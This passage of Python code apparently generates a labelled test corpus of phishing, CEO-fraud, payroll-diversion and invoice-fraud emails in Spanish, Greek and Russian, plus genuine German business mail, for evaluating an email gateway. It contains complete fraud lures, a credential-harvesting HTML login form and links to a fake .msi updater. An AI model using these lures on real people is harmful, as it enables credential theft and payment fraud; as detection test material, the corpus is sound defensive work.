    'Pago confidencial – hoy', '2026-12-02 12:31',
    T(f'''
    Hola Javier,

    te escribo en español para evitar malentendidos. Necesito que hoy gestiones una transferencia desde la cuenta de Example Group España. Se trata del anticipo a un nuevo proveedor de formación de carretilleros para el proyecto de Valencia; el contrato lo he cerrado yo directamente y Claudia está informada.

    Beneficiario: Iberlex Consultores y Formación S.L.
    IBAN: {fmt_iban(ES_FAKE_CEO)}
    Importe: 48.750,00 €
    Concepto: Anticipo contrato 2026-117

    Es importante que salga con fecha valor hoy. Estoy en reuniones todo el día, así que por favor confírmame por correo cuando esté hecho y envíame el justificante.

    Gracias,
    Markus
    '''),
    **I(m365('mail-am0eur02on2105.outbound.protection.outlook.com', '40.107.247.105', 'AM0PR02MB5521', 'eurprd02')),
    what='CEO fraud from an attacker-registered Microsoft 365 tenant (examplegroupgmbh.onmicrosoft.com) asking Spanish accounting for a €48,750 same-day transfer',
    why='Genuine Microsoft infrastructure but foreign tenant, not example.com; CEO never writes from onmicrosoft.com; urgency, "I\'m in meetings", new beneficiary')

msg(A, '29-es-verifactu-actualizador-descarga', 'es', 'utf-8',
    ('Soporte VERI*FACTU', 'avisos@verifactu-cumplimiento.es'), ['LU'],
    'Aviso: su software de facturación no está adaptado a VERI*FACTU', '2026-11-18 09:15',
    None, T('''
    Estimado cliente:

    Según el Real Decreto 1007/2023 y la Orden HAC/1177/2024, a partir del 1 de enero de 2027 todos los sistemas informáticos de facturación de sociedades deben cumplir los requisitos VERI*FACTU. Nuestros registros indican que la instalación utilizada por su empresa **no ha recibido la actualización obligatoria**.

    El uso de un software no adaptado puede conllevar sanciones de hasta 50.000 € por ejercicio.

    La actualización tarda menos de cinco minutos y no afecta a sus datos:

    [[Descargar actualizador VERI*FACTU|https://descargas.verifactu-cumplimiento.es/update/VFactu_Update_2026.11.msi]]

    Si utiliza varios equipos, ejecute el actualizador en cada uno de ellos.

    Atentamente,
    Departamento de Soporte Técnico
    '''), hcte='quoted-printable',
    html_opts=dict(font='Arial, sans-serif', button='#1f7a4d'),
    **I(ses('54.240.4.90', 'a4-90')),
    what='Fake software-vendor notice exploiting the Spanish VERI*FACTU e-invoicing deadline; link downloads an .msi (malware dropper)',
    why='Unknown vendor domain via Amazon SES, executable download link, fine threat')

msg(A, '30-es-paypal-factura-callback', 'es', 'utf-8',
    ('service@paypal.es', 'service@paypal.es'), ['CR'],
    'Ha recibido una factura de Soporte Digital Express (749,99 EUR)', '2026-11-27 17:40',
    T('''
    Soporte Digital Express le ha enviado una factura por 749,99 EUR.

    Fecha de vencimiento: 27 de noviembre de 2026
    Número de factura: 0029

    Nota del vendedor:
    Su suscripción anual de protección Norton 360 Total Security para 5 dispositivos se ha renovado. El cargo se realizará hoy mediante su método de pago de PayPal. Si no reconoce esta operación, llame inmediatamente a nuestro servicio de atención al cliente al +34 911 23 48 57 para cancelarla y obtener el reembolso.

    Ver y pagar factura: https://www.paypal.com/invoice/p/#INV2-K7TQ-9WZD-3B4M-QX8E

    PayPal
    '''), html=T('''
    **Soporte Digital Express le ha enviado una factura por 749,99 EUR.**

    Fecha de vencimiento: 27 de noviembre de 2026
    Número de factura: 0029

    **Nota del vendedor:**
    Su suscripción anual de protección Norton 360 Total Security para 5 dispositivos se ha renovado. El cargo se realizará hoy mediante su método de pago de PayPal. Si no reconoce esta operación, llame inmediatamente a nuestro servicio de atención al cliente al **+34 911 23 48 57** para cancelarla y obtener el reembolso.

    [[Ver y pagar factura|https://www.paypal.com/invoice/p/#INV2-K7TQ-9WZD-3B4M-QX8E]]
    '''), tz=-8, hcte='quoted-printable', rp='service@paypal.es',
    html_opts=dict(font='Helvetica, Arial, sans-serif', button='#0070e0',
                   head='<div style="padding:12px 0;font-size:22px;font-weight:bold;color:#003087">PayPal</div>\n'),
    **I(bare('mx0.slc.paypal.com', 'mx0.slc.paypal.com', '173.0.84.225'), mid='default', middom='paypal.com'),
    extra=['X-PP-REQUESTED-TIME: 1795797600123', 'X-PP-Email-transmission-Id: 5a8f3c21-cd4e-11f1-9a61-3cecef4b8a21'],
    what='Callback phishing abusing the genuine PayPal invoicing service: a scam "merchant" puts a fake Norton renewal and a phone number into the invoice note',
    why='Sent by genuine PayPal infrastructure; the payload is the phone number in the merchant note (TOAD); recipient never dealt with this merchant')

msg(A, '31-es-desvio-nomina-gmail', 'es', 'utf-8',
    ('Carmen Ruiz', 'carmenruiz.exgroup@gmail.com'), ['JM'],
    'Cambio de cuenta para la nómina', '2026-11-25 08:57',
    T(f'''
    Hola Javier,

    ¿qué tal? Te escribo desde mi correo personal porque no me deja entrar en el Outlook desde el móvil y estoy toda la mañana en Valencia con Almacenes Levante.

    He cambiado de banco y quería pedirte que la nómina de noviembre me la ingreséis en la cuenta nueva:

    Titular: Carmen Ruiz Gómez
    IBAN: {fmt_iban(ES_FAKE_PAY)}

    Si hace falta algún formulario me lo mandas a este correo y te lo devuelvo firmado hoy mismo, que sé que cerráis la nómina esta semana.

    ¡Gracias!
    Carmen

    Enviado desde mi iPhone
    '''),
    **I(gmail('pl1-f180', '209.85.208.180')),
    what='Payroll diversion: employee impersonated from a new Gmail address asks accounting to change the salary IBAN before payroll closes',
    why='Colleague on an unknown free-mailer address, new bank account, time pressure, wants forms sent to the private address')

# ============================== ATTACK: Greek ===============================
msg(A, '32-el-aade-mydata-taxisnet', 'el', 'iso-8859-7',
    ('ΑΑΔΕ - myAADE', 'noreply@myaade-gov.gr'), ['NG'],
    'Ειδοποίηση: ασυμφωνία διαβιβάσεων myDATA - απαιτείται ενέργεια', '2026-11-13 11:20',
    T('''
    Αγαπητέ/ή χρήστη,

    Κατά τη διασταύρωση των στοιχείων που έχουν διαβιβαστεί στην πλατφόρμα myDATA για το χρονικό διάστημα 07/2026 - 09/2026 εντοπίστηκαν αποκλίσεις μεταξύ των παραστατικών εσόδων της επιχείρησής σας και των χαρακτηρισμών των λήπτων.

    Παρακαλούμε να συνδεθείτε στην ψηφιακή πύλη myAADE με τους κωδικούς TAXISnet και να επιβεβαιώσετε ή να διορθώσετε τις εγγραφές εντός 5 εργάσιμων ημερών, προκειμένου να αποφευχθεί η επιβολή προστίμου.

    Σύνδεση: https://www1.myaade-gov.gr/taxisnet/mydata/elegxos?ref=MD-2026-774120

    Με εκτίμηση,
    Ανεξάρτητη Αρχή Δημοσίων Εσόδων
    '''), tz=2,
    html=T('''
    Αγαπητέ/ή χρήστη,

    Κατά τη διασταύρωση των στοιχείων που έχουν διαβιβαστεί στην πλατφόρμα **myDATA** για το χρονικό διάστημα 07/2026 - 09/2026 εντοπίστηκαν αποκλίσεις μεταξύ των παραστατικών εσόδων της επιχείρησής σας και των χαρακτηρισμών των λήπτων.

    Παρακαλούμε να συνδεθείτε στην ψηφιακή πύλη myAADE με τους κωδικούς TAXISnet και να επιβεβαιώσετε ή να διορθώσετε τις εγγραφές εντός 5 εργάσιμων ημερών, προκειμένου να αποφευχθεί η επιβολή προστίμου.

    [[Σύνδεση στο myAADE|https://www1.myaade-gov.gr/taxisnet/mydata/elegxos?ref=MD-2026-774120]]

    Με εκτίμηση,
    Ανεξάρτητη Αρχή Δημοσίων Εσόδων
    '''), html_opts=dict(font='Arial, sans-serif', button='#003476',
                         head='<div style="background:#003476;color:#fff;padding:12px 16px;font-size:18px;margin-bottom:14px">myAADE</div>\n'),
    **I(bare('mail.myaade-gov.gr', 'vmi2291847.contaboserver.net', '161.97.143.28')),
    what='Fake Greek tax authority (AADE) myDATA discrepancy notice with TAXISnet credential link',
    why='AADE uses aade.gr/gsis.gr; look-alike myaade-gov.gr on a Contabo VPS; TAXISnet credential harvesting')

_ergani = T('''
<!DOCTYPE html>
<html lang="el"><head><meta charset="windows-1253"><title>ΕΡΓΑΝΗ ΙΙ - Πράξη Επιβολής Προστίμου</title></head>
<body style="font-family:Arial,sans-serif;background:#f4f6f8">
<div style="max-width:460px;margin:60px auto;background:#fff;padding:28px;border-top:6px solid #1a4a8a">
<h3>ΕΡΓΑΝΗ ΙΙ - Είσοδος</h3>
<p>Για την προβολή της Πράξης Επιβολής Προστίμου ΕΡΓ-2026-58812 απαιτείται σύνδεση με τους κωδικούς TAXISnet του εργοδότη.</p>
<form action="https://ergani-ypergasias.gr/oauth/login" method="post">
<p>Όνομα χρήστη<br><input name="u"></p><p>Κωδικός<br><input name="p" type="password"></p>
<p><button>Σύνδεση</button></p></form>
<!-- INERT PLACEHOLDER: credential form for gateway evaluation; host fictitious -->
</div></body></html>
''')

msg(A, '33-el-ergani-psifiaki-karta-prostimo', 'el', 'windows-1253',
    ('ΕΡΓΑΝΗ ΙΙ - Υπουργείο Εργασίας', 'ergani@ergani-ypergasias.gr'), ['EP'],
    'Πράξη Επιβολής Προστίμου – Ψηφιακή Κάρτα Εργασίας (ΕΡΓ-2026-58812)', '2026-11-20 09:40',
    T('''
    Αξιότιμε εργοδότη,

    Σας ενημερώνουμε ότι κατά τον ηλεκτρονικό έλεγχο του συστήματος Ψηφιακής Κάρτας Εργασίας διαπιστώθηκαν 14 περιπτώσεις μη καταχωρημένης έναρξης ή λήξης βάρδιας για εργαζόμενους της επιχείρησής σας που απασχολούνται σε έμμεσο εργοδότη (Hellas Cargo Α.Ε., Ασπρόπυργος).

    Για κάθε παράβαση προβλέπεται πρόστιμο 10.500 € ανά εργαζόμενο. Η σχετική Πράξη Επιβολής Προστίμου επισυνάπτεται. Έχετε δικαίωμα υποβολής αντιρρήσεων εντός 10 ημερών μέσω του πληροφοριακού συστήματος ΕΡΓΑΝΗ ΙΙ.

    Με εκτίμηση,
    Επιθεώρηση Εργασίας - Τμήμα Ψηφιακών Ελέγχων
    Υπουργείο Εργασίας και Κοινωνικής Ασφάλισης
    '''), tz=2, cte='base64',
    atts=[('Praxi_Epivolis_Prostimou_ERG-2026-58812.html', 'text/html', _ergani.encode('cp1253'))],
    **I(bare('ergani-ypergasias.gr', 'server1.ergani-ypergasias.gr', '193.42.33.118')),
    what='Fake Greek Labour Inspectorate / ERGANI penalty for Digital Work Card violations (very relevant to temp staffing) with HTML attachment login form',
    why='Ministry systems are on ergani.gov.gr/gov.gr; look-alike domain, fine threat per worker, HTML credential attachment')

msg(A, '34-el-logistiko-grafeio-lookalike-iban', 'el', 'utf-8',
    ('Λογιστικό Γραφείο Καραγιάννη', 'info@karagiannis-logistiki.com'), ['NG'],
    'Αλλαγή τραπεζικού λογαριασμού – τιμολόγιο Νοεμβρίου', '2026-11-30 10:26',
    T(f'''
    Καλημέρα κύριε Γεωργίου,

    σας ενημερώνουμε ότι από 1 Δεκεμβρίου το γραφείο μας μεταφέρει τη συνεργασία του σε άλλη τράπεζα. Ο λογαριασμός στη Eurobank θα κλείσει, γι' αυτό σας παρακαλούμε το τιμολόγιο Νοεμβρίου (μισθοδοσία 112 εργαζομένων, 1.860,00 € πλέον ΦΠΑ) να εξοφληθεί στον νέο λογαριασμό:

    Δικαιούχος: ΚΑΡΑΓΙΑΝΝΗΣ ΛΟΓΙΣΤΙΚΗ ΙΚΕ
    Τράπεζα Πειραιώς
    IBAN: {fmt_iban(GR_FAKE)}

    Επειδή αλλάζουμε αυτή την εβδομάδα τηλεφωνικό πάροχο, το σταθερό μας ενδέχεται να μην λειτουργεί. Για οποιαδήποτε διευκρίνιση απαντήστε σε αυτό το email.

    Ευχαριστούμε για τη συνεργασία,
    Μαρία Καραγιάννη
    Λογιστικό Γραφείο Καραγιάννη
    '''), tz=2,
    **I(bare('mail.karagiannis-logistiki.com', 'vps-4a1b90f3.hostinger.io', '89.116.147.33'), ua='Roundcube Webmail/1.6.9', mid='php', bstyle='php'),
    what='Supplier bank-detail change from look-alike karagiannis-logistiki.com (genuine: .gr) with new Piraeus IBAN and "our phone line may be down"',
    why='Look-alike domain on cheap hosting, pre-empts call-back verification, new beneficiary account')

_qr_elta = 'https://elta-courier-gr.delivery-fee.top/p/EL771204583GR?amt=1.89'
msg(A, '35-el-elta-courier-qr-png', 'el', 'iso-8859-7',
    ('ΕΛΤΑ Courier', 'info@eltacourier-gr.com'), ['EP'],
    'Το δέμα σας ΕΛ771204583GR δεν παραδόθηκε', '2026-11-30 14:12',
    T('''
    Αγαπητέ πελάτη,

    Η αποστολή σας με αριθμό ΕΛ771204583GR δεν κατέστη δυνατό να παραδοθεί λόγω ελλιπούς διεύθυνσης.

    Για να προγραμματιστεί νέα παράδοση πρέπει να επιβεβαιώσετε τη διεύθυνση και να καταβάλετε το τέλος επαναποστολής (1,89 €) εντός 48 ωρών. Σαρώστε τον κωδικό QR που επισυνάπτεται με το κινητό σας.

    Μετά την παρέλευση της προθεσμίας το δέμα επιστρέφεται στον αποστολέα.

    ΕΛΤΑ Courier Α.Ε.
    '''), tz=2,
    atts=[('ELTA_QR_EL771204583GR.png', 'image/png', qr_png(_qr_elta))],
    **I(bare('eltacourier-gr.com', None, '103.150.187.44', tls=False)),
    what='Fake Greek courier (ELTA) redelivery-fee lure; the link exists only as an attached QR PNG',
    why='Look-alike domain, no rDNS/TLS, card-data harvesting behind a QR code')

# ============================== ATTACK: Russian =============================
msg(A, '36-ru-fns-trebovanie-zip', 'ru', 'windows-1251',
    ('ФНС России', 'trebovanie@nalog-gov.ru'), ['DV'],
    'Требование о представлении документов (информации) № 17-08/24518 от 24.11.2026', '2026-11-24 10:05',
    T('''
    Уважаемый налогоплательщик!

    В соответствии со статьей 93.1 Налогового кодекса Российской Федерации Инспекция Федеральной налоговой службы № 46 по г. Москве направляет требование о представлении документов (информации) в связи с проведением мероприятий налогового контроля в отношении контрагента ООО «СеверТорг».

    Требование и перечень запрашиваемых документов (договоры предоставления труда персонала, акты, счета-фактуры за 2025–2026 гг.) приложены к настоящему письму в виде архива.

    Документы необходимо представить в течение 10 рабочих дней со дня получения требования. Непредставление документов в установленный срок влечет ответственность по статье 129.1 НК РФ.

    С уважением,
    Отдел выездных проверок № 2
    ИФНС России № 46 по г. Москве
    '''), tz=3, cte='base64',
    atts=[('Trebovanie_17-08_24518.zip', 'application/zip', make_zip([
        ('Требование_17-08_24518.pdf.scr', INERT), ('Перечень_документов.pdf.scr', INERT)]))],
    **I(bare('mail.nalog-gov.ru', None, '45.144.30.112'), mailer='Microsoft Outlook 15.0'),
    what='Fake Russian tax service (ФНС) document request about staff-leasing contracts with ZIP of .pdf.scr (inert placeholders)',
    why='FNS sends requirements via ЭДО/TKS operators, not ZIP e-mail from nalog-gov.ru (genuine: nalog.gov.ru); executables with double extension')

msg(A, '37-ru-rostrud-akkreditaciya-koi8', 'ru', 'koi8-r',
    ('Роструд', 'akkreditaciya@rostrud-gov.ru'), ['IK'],
    'Подтверждение аккредитации частного агентства занятости до 01.12.2026', '2026-11-18 12:30',
    T('''
    Уважаемые коллеги!

    Федеральная служба по труду и занятости информирует о проведении плановой проверки сведений, содержащихся в реестре частных агентств занятости, аккредитованных на право осуществления деятельности по предоставлению труда работников (персонала).

    Для сохранения аккредитации Вашей организации необходимо до 01.12.2026 подтвердить актуальность сведений (численность персонала, размер чистых активов, отсутствие задолженности по налогам) в личном кабинете на портале Роструда:

    https://lk.rostrud-gov.ru/akkreditaciya/podtverzhdenie?org=7714389062

    Вход осуществляется через учетную запись Госуслуг организации.

    При неподтверждении сведений в установленный срок аккредитация будет приостановлена, а деятельность по предоставлению персонала будет считаться незаконной.

    Управление надзора и контроля за соблюдением законодательства о труде
    Федеральная служба по труду и занятости
    '''), tz=3, cc=['OS'],
    **I(bare('mail.rostrud-gov.ru', 'vm1187452.firstbyte.club', '91.218.114.76')),
    what='Fake Rostrud (labour authority) demand to confirm private-employment-agency accreditation for staff leasing, Gosuslugi credential link; KOI8-R',
    why='Rostrud uses rostrud.gov.ru; look-alike rostrud-gov.ru on a cheap VPS; trade-specific licence-loss threat')

msg(A, '38-ru-diadok-upd-phish', 'ru', 'utf-8',
    ('Контур.Диадок', 'noreply@diadok-kontur.ru'), ['DV'],
    'Вам поступил документ от ООО «СеверТорг»: УПД № 1184 от 26.11.2026', '2026-11-26 16:02',
    None, T('''
    Здравствуйте!

    Контрагент **ООО «СеверТорг»** отправил вам документ, который требует подписи.

    Тип: Универсальный передаточный документ (УПД)
    Номер: 1184 от 26.11.2026
    Сумма: 1 284 600,00 ₽
    Комментарий отправителя: «Просим подписать до конца месяца, иначе не сможем провести оплату за ноябрь»

    [[Открыть документ|https://diadok-kontur.ru/auth/login?returnUrl=%2Fdoc%2F1184&box=example-group-rus]]

    С уважением,
    команда Контур.Диадок
    '''), tz=3, hcte='base64',
    html_opts=dict(font='Arial, sans-serif', button='#1f87ef',
                   head='<div style="padding:10px 0;font-size:20px;font-weight:bold;color:#1f87ef">Диадок</div>\n'),
    **I(bare('smtp2.diadok-kontur.ru', 'static.88.44.201.5.clients.your-server.de', '5.201.44.88')),
    what='Fake EDI notification (Kontur.Diadok) about a UPD from the real customer СеверТорг, link to credential page',
    why='Genuine service domains are diadoc.ru/kontur.ru; look-alike diadok-kontur.ru hosted at Hetzner')

msg(A, '39-ru-fake-boss-fsb-kurator', 'ru', 'utf-8',
    ('Маркус Хоффманн', 'markus.hoffmann.ceo@yandex.ru'), ['DV'],
    'Конфиденциально', '2026-12-03 09:47',
    T('''
    Дмитрий, добрый день.

    Пишу вам по-русски через переводчик, чтобы не было недопонимания. Вчера с нашей группой связались представители Центрального банка и ФСБ в связи с проверкой платежей московского офиса за последние шесть месяцев. Подробности я пока не могу раскрыть, это связано с расследованием в отношении одного из наших клиентов.

    Сегодня или завтра вам позвонит куратор проверки, полковник Ковалёв Сергей Николаевич. Прошу оказать ему полное содействие и точно выполнять его указания. Возможно, понадобится временно перевести остатки со счетов компании на защищённый счёт — он объяснит процедуру.

    Об этом разговоре никому не сообщайте, включая Ольгу и коллег в Германии. Это вопрос безопасности всей группы, и утечка может серьёзно навредить расследованию.

    Спасибо за понимание.
    Маркус Хоффманн
    '''), tz=1, cte='8bit',
    **I(bare('forward501b.mail.yandex.net', 'forward501b.mail.yandex.net', '178.154.239.81'),
        hops=['from mail-nwsmtp-smtp-production-main-38.vla.yp-c.yandex.net (mail-nwsmtp-smtp-production-main-38.vla.yp-c.yandex.net [IPv6:2a02:6b8:c1f:2b05:0:640:95a:0])\n\tby forward501b.mail.yandex.net (Yandex) with ESMTPS id 3A{q}; {d}'],
        mailer='Yamail [ http://yandex.ru ] 5.0'),
    what='"Fake boss" scam (widespread in Russia): CEO impersonated on Yandex announces a call from an "FSB curator" who will instruct transfers to a "safe account"',
    why='CEO on a free Yandex mailbox, secrecy towards colleagues, authority pretext preparing a vishing call and fund transfer')

msg(A, '40-ru-klining-lookalike-rekvizity', 'ru', 'windows-1251',
    ('ООО «Клининг-Профи» бухгалтерия', 'buh@klining-profi.com'), ['DV'],
    'Счёт на оплату № 1127 за ноябрь и изменение реквизитов', '2026-11-30 11:15',
    T(f'''
    Добрый день, Дмитрий!

    Направляем счёт № 1127 от 30.11.2026 за уборку офиса за ноябрь (42 000,00 руб., без НДС).

    Обращаем внимание, что с 01.12.2026 в связи со сменой обслуживающего банка у нас изменились платёжные реквизиты. Оплату по счёту № 1127 и все последующие платежи просим производить только по новым реквизитам:

    Получатель: ООО «Клининг-Профи»
    ИНН {INN_KLIN}
    Р/с {RS_KLIN_FAKE}
    Банк: АО «ТБанк», г. Москва
    БИК {BIK_TB}
    К/с {KS_TB}

    Письмо за подписью генерального директора направим оригиналом по почте. Просим оплатить до 03.12.

    С уважением,
    Екатерина Лебедева
    бухгалтер ООО «Клининг-Профи»
    '''), tz=3,
    atts=[('Schet_1127_ot_30.11.2026.pdf', 'application/pdf', make_pdf([
        '# Schet na oplatu N 1127 ot 30.11.2026', 'OOO Klining-Profi / uborka ofisa, noyabr 2026',
        'Summa: 42 000,00 RUB', f'R/s {RS_KLIN_FAKE}  BIK {BIK_TB}', '', 'PLACEHOLDER - inert test document'], 'Schet 1127'))],
    **I(bare('mail.klining-profi.com', 'vds-cz12871.timeweb.ru', '92.53.117.204'), mailer='Microsoft Outlook 16.0'),
    what='Invoice fraud: cleaning supplier impersonated from klining-profi.com (genuine .ru) with changed payment details (T-Bank account, valid control key)',
    why='Look-alike domain, sudden bank change with invoice, deadline, signed letter "will follow by post"')

# ============================== BUSINESS: German ============================
LIEF_HOST = postfix_host('dd31415.kasserver.com', '85.13.147.22', '91.12.26.47', 'p5b0c1a2f.dip0.t-ipconnect.de',
                         helo='dd31415.kasserver.com')

msg(B, '01-de-lieferant-rechnung-re-2026-1187', 'de', 'iso-8859-15',
    ('Lieferant GmbH - Buchhaltung', 'rechnungen@lieferant-gmbh.de'), ['SK'],
    'Rechnung RE-2026-1187 - Lieferant GmbH', '2026-11-06 11:20',
    T(f'''
    Sehr geehrte Damen und Herren,

    anbei erhalten Sie unsere Rechnung RE-2026-1187 vom 06.11.2026 über die Lieferung von 180 Winterjacken (Warnschutz, Klasse 3) und 120 Paar Sicherheitsschuhen S3 für Ihre Lagerkräfte, Lieferschein LS-2026-5512.

    Rechnungsbetrag: 4.318,60 € (inkl. 19 % MwSt.)
    Zahlbar bis: 06.12.2026 ohne Abzug

    Bankverbindung: Commerzbank AG, IBAN {fmt_iban(LIEF_OLD)}, BIC COBADEFFXXX

    Bei Fragen zur Rechnung wenden Sie sich bitte an unsere Buchhaltung unter 06102 7345-0.

    Mit freundlichen Grüßen
    Ihre Buchhaltung

    Lieferant GmbH · Industriestraße 14 · 63263 Neu-Isenburg
    Geschäftsführer: Dr. Heinz Lieferant · HRB 41877 Amtsgericht Offenbach am Main
    '''),
    atts=[('RE-2026-1187.pdf', 'application/pdf', make_pdf([
        '# Lieferant GmbH - Rechnung RE-2026-1187', 'Datum: 06.11.2026   Kunde: Example Group GmbH, Frankfurt am Main',
        '180 x Warnschutz-Winterjacke Kl. 3 a 14,90 EUR', '120 x Sicherheitsschuh S3 a 10,18 EUR',
        'Nettobetrag 3.629,08 EUR  MwSt 19% 689,52 EUR  Gesamt 4.318,60 EUR',
        f'Commerzbank AG  IBAN {fmt_iban(LIEF_OLD)}  BIC COBADEFFXXX', '', 'PLACEHOLDER - inert test document'], 'RE-2026-1187'))],
    **I(LIEF_HOST, mailer='Sage 100 9.0 E-Mail-Versand', mid='default'),
    what='Genuine supplier invoice (PDF) from the real supplier domain with the long-known Commerzbank IBAN',
    why='Known sender, correct domain and hosting, expected business content; baseline for the fraud in attack/02')

msg(B, '02-de-lieferant-echte-bankverbindungsaenderung', 'de', 'utf-8',
    ('Stefan Maier', 's.maier@lieferant-gmbh.de'), ['SK'],
    'Neue Bankverbindung ab 01.01.2027 – bitte telefonisch verifizieren', '2026-12-01 14:05',
    T(f'''
    Sehr geehrte Frau Krüger,

    wie heute Vormittag mit Ihnen telefonisch besprochen, stellen wir unseren Zahlungsverkehr zum Jahreswechsel von der Commerzbank auf die Frankfurter Sparkasse um. Das offizielle Schreiben unserer Geschäftsführung mit Unterschrift und Stempel finden Sie im Anhang; das Original geht heute zusätzlich per Post an Sie.

    Neue Bankverbindung ab 01.01.2027:
    Kontoinhaber: Lieferant GmbH
    Frankfurter Sparkasse
    IBAN: {fmt_iban(LIEF_NEW)}
    BIC: HELADEF1822

    Bis zum 31.12.2026 bleibt das bisherige Konto bei der Commerzbank aktiv, alle Dezember-Zahlungen können also wie gewohnt dorthin gehen.

    Wir wissen, dass derzeit viele gefälschte Mails mit angeblich neuen Kontodaten im Umlauf sind – auch unter unserem Namen gab es im November einen Versuch. Bitte verifizieren Sie die Änderung daher wie gewohnt per Rückruf unter der Ihnen bekannten Nummer unserer Buchhaltung (06102 7345-0) und nicht über Angaben aus einer E-Mail.

    Mit freundlichen Grüßen

    Stefan Maier
    Vertrieb / Key Account
    Lieferant GmbH
    Industriestraße 14 · 63263 Neu-Isenburg
    '''), cc=['CB'],
    atts=[('Lieferant_GmbH_Mitteilung_Bankverbindung_2027.pdf', 'application/pdf', make_pdf([
        '# Lieferant GmbH', 'Mitteilung ueber die Aenderung unserer Bankverbindung zum 01.01.2027', '',
        f'Bisher: Commerzbank AG, IBAN {fmt_iban(LIEF_OLD)} (aktiv bis 31.12.2026)',
        f'Neu: Frankfurter Sparkasse, IBAN {fmt_iban(LIEF_NEW)}, BIC HELADEF1822', '',
        'Neu-Isenburg, 01.12.2026 - Dr. Heinz Lieferant, Geschaeftsfuehrer', '', 'PLACEHOLDER - inert test document'],
        'Bankverbindung 2027'))],
    **I(LIEF_HOST, mailer='Microsoft Outlook 16.0', bstyle='outlook', extra=['Content-Language: de-DE']),
    what='Genuine bank-detail change from the real supplier contact: announced by phone first, signed letter, old account stays active, explicitly asks for call-back verification',
    why='Correct domain and usual mail server; content follows good practice (prior phone call, overlap period, verification); must reach AP, who will verify')

msg(B, '03-de-ceo-dringende-zahlung-messe', 'de', 'iso-8859-1',
    'MH', ['CB'], 'Bitte heute noch anweisen: Anzahlung Zukunft Personal 2027', '2026-11-13 11:02',
    T('''
    Hallo Claudia,

    die Koelnmesse hat uns gestern die Anzahlungsrechnung für unseren Stand auf der Zukunft Personal Europe 2027 geschickt (Rechnung 2027-ZP-004711, 18.450,00 EUR). Frist für die Anzahlung ist laut Vertrag heute, sonst verlieren wir die Standfläche in Halle 2.2, die Julia im Sommer reserviert hat.

    Die Rechnung liegt seit gestern im Rechnungseingangsbuch, Julia hat die sachliche Richtigkeit schon bestätigt. Kannst du sie bitte heute noch mit der Mittagszahlung rausgeben? Die Bankverbindung ist die bekannte der Koelnmesse aus den Vorjahren.

    Ich bin ab 14 Uhr bei Kessler in Hanau, aber auf dem Handy erreichbar, falls du Rückfragen hast.

    Danke und Gruß
    Markus
    '''), cc=['PS', 'JU'],
    **I(internal('10.20.14.31')),
    extra=['Thread-Topic: Bitte heute noch anweisen: Anzahlung Zukunft Personal 2027', 'Thread-Index: AdtVq1c2xZ5dA0fHSnK0nL8w3VJb2Q==',
           'Content-Language: de-DE', 'Importance: high', 'X-Priority: 2'],
    what='Genuine urgent payment request from the CEO via the internal relay: known payee, invoice already in the AP workflow, colleagues in Cc, offers phone contact',
    why='Authenticated internal submission through mail-int01, no secrecy, no new bank details, follows the normal approval path')

msg(B, '04-de-stepstone-passwort-zuruecksetzen', 'de', 'utf-8',
    ('StepStone', 'noreply@stepstone.de'), ['FN'],
    'Ihr Passwort für StepStone zurücksetzen', '2026-11-24 08:31',
    T('''
    Hallo Felix Neumann,

    Sie haben angefordert, das Passwort für Ihr Arbeitgeberkonto bei StepStone zurückzusetzen. Klicken Sie auf den folgenden Link, um ein neues Passwort festzulegen:

    [[Neues Passwort festlegen|https://www.stepstone.de/5/index.cfm?event=offeringmanagement.passwordreset&token=7f3a9c2e51d84b06a1e9]]

    Der Link ist 60 Minuten gültig. Wenn Sie diese Anfrage nicht gestellt haben, können Sie diese E-Mail ignorieren – Ihr Passwort bleibt unverändert.

    Ihr StepStone-Team

    StepStone Deutschland GmbH · Völklinger Straße 1 · 40219 Düsseldorf
    '''), html=T('''
    Hallo Felix Neumann,

    Sie haben angefordert, das Passwort für Ihr Arbeitgeberkonto bei StepStone zurückzusetzen. Klicken Sie auf den folgenden Button, um ein neues Passwort festzulegen:

    [[Neues Passwort festlegen|https://www.stepstone.de/5/index.cfm?event=offeringmanagement.passwordreset&token=7f3a9c2e51d84b06a1e9]]

    Der Link ist 60 Minuten gültig. Wenn Sie diese Anfrage nicht gestellt haben, können Sie diese E-Mail ignorieren – Ihr Passwort bleibt unverändert.

    Ihr StepStone-Team

    StepStone Deutschland GmbH · Völklinger Straße 1 · 40219 Düsseldorf
    '''), html_opts=dict(font='Arial, sans-serif', button='#0c2577'),
    **I(bare('mta2.mail.stepstone.de', 'mta2.mail.stepstone.de', '195.24.88.52')),
    what='Genuine password reset requested by the recruiter on the real job board (stepstone.de)',
    why='Real service domain and consistent infrastructure, link to the service\'s own domain, no pressure; recruiter requested it')

msg(B, '05-de-gvp-newsletter-zeitarbeit', 'de', 'utf-8',
    ('GVP Gesamtverband der Personaldienstleister', 'newsletter@personaldienstleister.de'), ['AS'],
    'GVP-Newsletter 11/2026: Tarifrunde 2027, Equal Pay, E-Rechnung', '2026-11-05 10:00',
    T('''
    GVP-Newsletter November 2026

    **Tarifrunde Zeitarbeit 2027: Verhandlungen starten am 8. Dezember**
    Die Tarifgemeinschaft Zeitarbeit und die DGB-Gewerkschaften haben den Auftakt der Verhandlungen über die Entgelttabellen ab April 2027 terminiert. Wir informieren Mitglieder laufend im Mitgliederbereich.

    **Equal Pay nach neun Monaten – Praxishinweise**
    Unser neues Merkblatt erläutert die Berechnung der Überlassungsdauer bei Unterbrechungen und die Dokumentation gegenüber Kundenbetrieben.

    **E-Rechnung: Übergangsfrist endet für größere Unternehmen**
    Ab 1. Januar 2027 dürfen Unternehmen mit mehr als 800.000 Euro Vorjahresumsatz keine Papier- oder PDF-Rechnungen mehr ausstellen. Checkliste im Mitgliederbereich.

    **Webinar am 24.11.: Arbeitnehmerüberlassung und Werkvertrag sicher abgrenzen**
    [[Jetzt anmelden|https://www.personaldienstleister.de/veranstaltungen/webinar-abgrenzung-2026]]

    Sie erhalten diesen Newsletter, weil Sie ihn als Mitglied abonniert haben. [[!Abmelden|https://news.personaldienstleister.de/u/?e=anna.schneider%40example.com&l=gvp-mitglieder]]
    GVP e.V. · Universitätsstraße 2-3a · 10117 Berlin
    '''), html=T('''
    **GVP-Newsletter November 2026**

    **Tarifrunde Zeitarbeit 2027: Verhandlungen starten am 8. Dezember**
    Die Tarifgemeinschaft Zeitarbeit und die DGB-Gewerkschaften haben den Auftakt der Verhandlungen über die Entgelttabellen ab April 2027 terminiert. Wir informieren Mitglieder laufend im Mitgliederbereich.

    **Equal Pay nach neun Monaten – Praxishinweise**
    Unser neues Merkblatt erläutert die Berechnung der Überlassungsdauer bei Unterbrechungen und die Dokumentation gegenüber Kundenbetrieben.

